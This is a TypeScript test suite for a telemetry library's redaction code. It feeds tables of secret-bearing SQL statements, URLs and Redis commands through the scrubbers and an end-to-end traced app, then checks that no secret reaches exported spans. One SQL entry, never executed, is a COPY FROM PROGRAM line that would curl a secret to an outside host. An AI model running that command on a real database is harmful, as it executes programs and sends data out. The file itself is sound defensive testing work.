// Credentials, SQL literals and cache values never leave the process: tables of hostile statements,
// URLs and Redis commands, first through the scrubbers alone, then end to end through a traced app,
// the real Postgres and Redis, and an OTLP receiver, looking for the secret in everything exported.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sanitizedPgMessage } from '../src/instrumentation/pg/pg.js';
import { summarize } from '../src/instrumentation/pg/sql.js';
import { sanitizeSql } from '../src/instrumentation/redaction/sql.js';
import { QueryRedactor } from '../src/instrumentation/redaction/url-query.js';
import { redisQueryText, sanitizedRedisMessage } from '../src/instrumentation/redis/redis-span.js';
import { startApp } from './support/child-app.js';
import { startHttpReceiver, type ReceivedSpan } from './support/otlp-receiver.js';
import { POSTGRES_URL, REDIS_URL, requireService } from './support/services.js';

/** Every secret in the tables below contains this, whatever case or quoting surrounds it. */
const SECRET = /s3cr3t|4111111111111111|31337|5ec2e7/i;

// [statement, whether to run it against the real Postgres]: COPY … FROM PROGRAM would run a program.
const HOSTILE_SQL: Array<[string, boolean?]> = [
  ["SELECT * FROM users WHERE password = 's3cr3t'"],
  ["SELECT 'it''s s3cr3t', 'x''s3cr3t'''"],
  ['SELECT $$s3cr3t$$'],
  ['SELECT $tag$ s3cr3t $ not the end $tag$'],
  ['SELECT $outer$ nested $$ s3cr3t $$ $outer$'],
  ["SELECT E's3cr3t\\'s3cr3t'"],
  ["SELECT e'\\\\' || 's3cr3t'"],
  ["SELECT E'\\x73\\x33' || E's3cr3t'"],
  ["SELECT U&'s3cr3t\\0041'"],
  ["SELECT U&'d!0061t' UESCAPE '!', 's3cr3t'"],
  ["SELECT B'1010', X'5EC2E7', N's3cr3t'"],
  ['SELECT 1 -- s3cr3t in a line comment'],
  ['SELECT /* s3cr3t in a block comment */ 1'],
  ['SELECT /* outer /* s3cr3t */ still a comment: s3cr3t */ 1'],
  ["SELECT 'unterminated s3cr3t"],
  ['SELECT $$ unterminated s3cr3t'],
  ['SELECT 1 /* unterminated s3cr3t'],
  ["SELECT 'a\\' , 's3cr3t'"],
  ["INSERT INTO tokens (t) VALUES ('s3cr3t'), (E's3cr3t')"],
  ["UPDATE users SET api_key = 's3cr3t' WHERE id = 31337"],
  ['SELECT * FROM cards WHERE number = 4111111111111111'],
  ['SELECT 3.14159e10, .31337, 0x5EC2E7, 31_337, 0b1010'],
  ["SELECT * FROM t WHERE flag = TRUE AND x = 's3cr3t' AND y = -31337"],
  ["SELECT '2024-01-01'::date, 's3cr3t'::text"],
  ["SELECT 's3cr3t'::int"],
  ["SELECT ARRAY['s3cr3t', 'x']"],
  ['SELECT \'{"token": "s3cr3t"}\'::jsonb ->> \'token\''],
  ["CREATE ROLE sightline_test_role WITH PASSWORD 's3cr3t'"],
  ["ALTER ROLE sightline_test_role PASSWORD 's3cr3t'"],
  ["SET LOCAL application_name = 's3cr3t'"],
  ["COPY t FROM PROGRAM 'curl https://x/?k=s3cr3t'", false],
  ["SELECT $1::text, 's3cr3t' AS beside_a_placeholder"],
  ["DO $body$ BEGIN RAISE NOTICE 's3cr3t'; END $body$"],
  ['SELECT "col" FROM t WHERE "col"=\'s3cr3t\''],
  ["select * from t where a='x'||'s3cr3t'"],
  ["SELECT 'multi\nline s3cr3t'"],
  ["SELECT 's3cr3t' FROM pg_class WHERE relname = 'from s3cr3t_table'"],
];

const HOSTILE_URLS: string[] = [
  '/search?q=shoes&token=s3cr3t',
  '/cb?access_token=s3cr3t&state=ok',
  '/api?api_key=s3cr3t',
  '/api?apiKey=s3cr3t',
  '/api?X-Api-Key=s3cr3t',
  '/login?user=bob&password=s3cr3t',
  '/oauth?client_id=abc&client_secret=s3cr3t',
  '/s3/object?AWSAccessKeyId=AKIAS3CR3T&Signature=s3cr3t&Expires=1',
  '/blob?sv=2020&sig=s3cr3t',
  '/gcs?X-Goog-Signature=s3cr3t&X-Goog-Credential=s3cr3t',
  '/aws?X-Amz-Signature=s3cr3t&X-Amz-Security-Token=s3cr3t&X-Amz-Credential=s3cr3t',
  '/maps?key=AIzaSyS3CR3TS3CR3TS3CR3T',
  '/hook?github_token=s3cr3t',
  '/reset?refresh_token=s3cr3t&id_token=s3cr3t',
  '/x?filter[token]=s3cr3t&tags[]=a',
  '/x?api%5Fkey=s3cr3t',
  '/x?session_id=s3cr3t',
  '/x?db_password=s3cr3t&a=1#frag',
];

/**
 * Everything of the spans that carries text from the app (names, attributes, status, events, links,
 * trace state), as one string to search for secrets. Not the clock's timestamps or the random ids: a
 * decimal timestamp holds "31337" now and then (one CI run failed on an event's time, …331337730241),
 * and an id can hold any hex run, "5ec2e7" too.
 */
function exported(spans: ReceivedSpan[]): string {
  return JSON.stringify(
    spans.map((s) => ({
      name: s.name,
      traceState: s.traceState,
      attributes: s.attributes,
      events: s.events.map((e) => ({ name: e.name, attributes: e.attributes })),
      status: s.status,
      links: s.links.map((l) => ({ attributes: l.attributes })),
    })),
    (_k, v) => (typeof v === 'bigint' ? String(v) : v),
  );
}

describe('SQL literals', () => {
  for (const [statement] of HOSTILE_SQL) {
    it(`leaves no literal of ${JSON.stringify(statement)}`, () => {
      const { queryText, collection } = summarize(statement);
      assert.doesNotMatch(queryText, SECRET);
      assert.doesNotMatch(String(collection), SECRET, 'a string cannot pass for the table name');
    });
  }

  it('keeps identifiers, keywords, operators, casts and placeholders as written', () => {
    assert.equal(
      sanitizeSql('SELECT t1.col2, "Mixed""Name" FROM t1 JOIN s.t2 ON a = $1 AND b <> $2 WHERE c = \'x\'::text'),
      'SELECT t1.col2, "Mixed""Name" FROM t1 JOIN s.t2 ON a = $1 AND b <> $2 WHERE c = ?::text',
    );
    assert.equal(sanitizeSql('SELECT a$b$, $1 FROM t LIMIT 10 OFFSET 2.5e3'), 'SELECT a$b$, $1 FROM t LIMIT ? OFFSET ?');
    assert.equal(
      sanitizeSql('SELECT * FROM t WHERE x IN (1, 2, -3) AND y IS NOT NULL AND z = FALSE'),
      'SELECT * FROM t WHERE x IN (?, ?, -?) AND y IS NOT NULL AND z = ?',
    );
    assert.equal(sanitizeSql('SELECT 1 -- note\nFROM t'), 'SELECT ? \nFROM t');
    assert.equal(
      sanitizeSql("SELECT 'a\\' , 'b'"),
      'SELECT ?',
      'a backslash makes the end of the literal depend on the server: the rest goes',
    );
    const { operation, collection } = summarize('/* app */ insert INTO public.orders (a) VALUES ($1)');
    assert.deepEqual([operation, collection], ['INSERT', 'public.orders']);
    assert.equal(summarize('UPDATE "Order" SET a = 1').collection, 'Order');
    assert.equal(summarize('SELECT 1').collection, undefined);
  });

  it('keeps one summary per text, bounded', () => {
    const text = "SELECT * FROM users WHERE email = 'a@b.c'";
    const first = summarize(text);
    assert.deepEqual(first, { queryText: 'SELECT * FROM users WHERE email = ?', operation: 'SELECT', collection: 'users' });
    assert.equal(summarize(text), first, 'the second call is the cached summary');
    for (let i = 0; i < 2000; i++) summarize(`SELECT ${i} FROM t${i}`);
    assert.deepEqual(summarize(text), first);
  });

  it('hides the value Postgres quotes in data-exception and syntax-error messages', () => {
    assert.equal(
      sanitizedPgMessage('invalid input syntax for type integer: "s3cr3t"', '22P02'),
      'invalid input syntax for type integer: "?"',
    );
    assert.equal(
      sanitizedPgMessage('unterminated quoted string at or near "\'s3cr3t"', '42601'),
      'unterminated quoted string at or near "?"',
    );
    assert.equal(
      sanitizedPgMessage('relation "no_such_table" does not exist', '42P01'),
      'relation "no_such_table" does not exist',
      'names are kept',
    );
  });
});

describe('URL query values', () => {
  const redactor = new QueryRedactor();
  for (const url of HOSTILE_URLS) {
    it(`redacts ${url}`, () => {
      const redacted = redactor.redactUrl(url);
      assert.doesNotMatch(redacted, SECRET);
      assert.match(redacted, /REDACTED/);
    });
  }

  it('keeps everything else as written, and redacts user:password in a full URL', () => {
    assert.equal(redactor.redactQuery('q=shoes&page=2&token=abc&key=user:1'), 'q=shoes&page=2&token=REDACTED&key=user:1');
    assert.equal(redactor.redactUrl('https://bob:pw@example.com/p?sig=x#top'), 'https://REDACTED:REDACTED@example.com/p?sig=REDACTED#top');
    assert.equal(redactor.redactQuery('flag&token=&=x'), 'flag&token=&=x', 'no value, nothing to hide');
  });

  it('takes its keys from SIGHTLINE_REDACT_QUERY_KEYS semantics: a replacement list, `default` for the built-in one, none for nothing', () => {
    assert.equal(
      new QueryRedactor(['default', 'order_ref']).redactQuery('order_ref=1&token=2&q=3'),
      'order_ref=REDACTED&token=REDACTED&q=3',
    );
    assert.equal(new QueryRedactor(['order_ref']).redactQuery('order_ref=1&token=2'), 'order_ref=REDACTED&token=2');
    assert.equal(new QueryRedactor([]).redactQuery('token=2'), 'token=2');
  });
});

describe('Redis commands', () => {
  it('shows scripts by their key count only, and never a password or echoed value', () => {
    assert.equal(redisQueryText('EVAL', ["return redis.call('SET', KEYS[1], 's3cr3t')", 1, 'k', 's3cr3t']), 'EVAL ? 1');
    assert.equal(redisQueryText('EVALSHA', ['abc123', '2', 'k1', 'k2', 's3cr3t']), 'EVALSHA ? 2');
    assert.equal(redisQueryText('FCALL', ['myfunction', 0, 's3cr3t']), 'FCALL myfunction 0');
    assert.equal(redisQueryText('AUTH', ['default', 's3cr3t']), 'AUTH ?');
    assert.equal(redisQueryText('AUTH', ['s3cr3t']), 'AUTH ?');
    assert.equal(redisQueryText('ECHO', ['s3cr3t']), 'ECHO ?');
    assert.equal(redisQueryText('SCRIPT', ['LOAD', 'return "s3cr3t"']), 'SCRIPT LOAD ?');
    assert.equal(redisQueryText('CONFIG', ['SET', 'requirepass', 's3cr3t']), 'CONFIG SET ?');
    assert.equal(redisQueryText('SET', ['user:1', 's3cr3t', 'EX', 60]), 'SET user:1 ? ? ?');
    assert.equal(
      sanitizedRedisMessage("ERR unknown command 'NOPE', with args beginning with: 's3cr3t' "),
      "ERR unknown command 'NOPE', with args beginning with: ?",
    );
  });
});

describe('nothing secret is exported, end to end', () => {
  it('through the pg, ioredis, HTTP server, fetch and node:http instrumentations', async (t) => {
    if (!(await requireService(t, 'PostgreSQL', POSTGRES_URL))) return;
    if (!(await requireService(t, 'Redis', REDIS_URL))) return;
    const receiver = await startHttpReceiver();
    // Started inside the try: if the app cannot start, the receiver still closes and the run goes on.
    let app: Awaited<ReturnType<typeof startApp>> | undefined;
    try {
      app = await startApp('redaction-app.mjs', {
        OTEL_SERVICE_NAME: 'redaction',
        OTEL_EXPORTER_OTLP_ENDPOINT: receiver.url,
        OTEL_NODE_DISABLED_INSTRUMENTATIONS: '',
        OTEL_INSTRUMENTATION_HTTP_CAPTURE_HEADERS_SERVER_REQUEST: 'referer',
        DATABASE_URL: POSTGRES_URL,
        REDIS_URL,
      });
      const base = `http://127.0.0.1:${app.port}`;
      const post = (path: string, body: unknown) =>
        fetch(`${base}${path}`, { method: 'POST', body: JSON.stringify(body) }).then((r) => r.text());
      const statements = HOSTILE_SQL.filter(([, run]) => run !== false).map(([s]) => s);
      await post('/sql', statements);
      await post('/redis', [
        ['EVAL', "return redis.call('SET', KEYS[1], ARGV[1])", '1', 'sightline:redaction', 's3cr3t'],
        ['SET', 'sightline:redaction', 's3cr3t'],
        ['ECHO', 's3cr3t'],
        ['NO_SUCH_COMMAND', 's3cr3t'],
      ]);
      // Incoming requests with hostile query strings (and a hostile Referer), and outbound calls to the same.
      for (const url of HOSTILE_URLS)
        await fetch(`${base}${url}`, { headers: { referer: `https://example.com${url}` } }).then((r) => r.text());
      await post(
        '/fetch',
        HOSTILE_URLS.map((url) => `${base}${url}`),
      );

      const sqlSpans = () => receiver.spans.filter((s) => s.attributes['db.system.name'] === 'postgresql');
      const statementSpans = statements.length * 3; // BEGIN, the statement, ROLLBACK
      const clientSpans = () => receiver.spans.filter((s) => s.kind === 3 && s.attributes['url.full'] !== undefined);
      // Each hostile URL reached the app three times: from the test, and by the app's fetch and node:http calls.
      const serverSpansWithQuery = () => receiver.spans.filter((s) => s.kind === 2 && s.attributes['url.query'] !== undefined);
      const deadline = Date.now() + 15_000;
      while (
        sqlSpans().length < statementSpans ||
        clientSpans().length < 2 * HOSTILE_URLS.length ||
        serverSpansWithQuery().length < 3 * HOSTILE_URLS.length
      ) {
        if (Date.now() > deadline)
          throw new Error(
            `spans missing: ${sqlSpans().length} SQL, ${clientSpans().length} HTTP client, ${serverSpansWithQuery().length} HTTP server`,
          );
        await new Promise((r) => setTimeout(r, 50));
      }
      const text = exported(receiver.spans);
      const leak = SECRET.exec(text);
      assert.equal(leak, null, `a secret left the process: …${leak ? text.slice(Math.max(0, leak.index - 200), leak.index + 50) : ''}`);
      // And the scrubbed spans are all there: nothing was hidden by dropping it.
      assert.ok(receiver.spans.some((s) => s.attributes['db.query.text'] === 'EVAL ? 1'));
      assert.ok(receiver.spans.some((s) => s.status.message === 'invalid input syntax for type integer: "?"'));
      assert.ok(receiver.spans.some((s) => String(s.attributes['url.query']).includes('token=REDACTED')));
      assert.ok(receiver.spans.some((s) => String(s.attributes['url.full']).includes('password=REDACTED')));
      assert.ok(receiver.spans.some((s) => String(s.attributes['http.request.header.referer']).includes('api_key=REDACTED')));
    } finally {
      app?.child.kill('SIGKILL');
      await receiver.close();
    }
  });
});
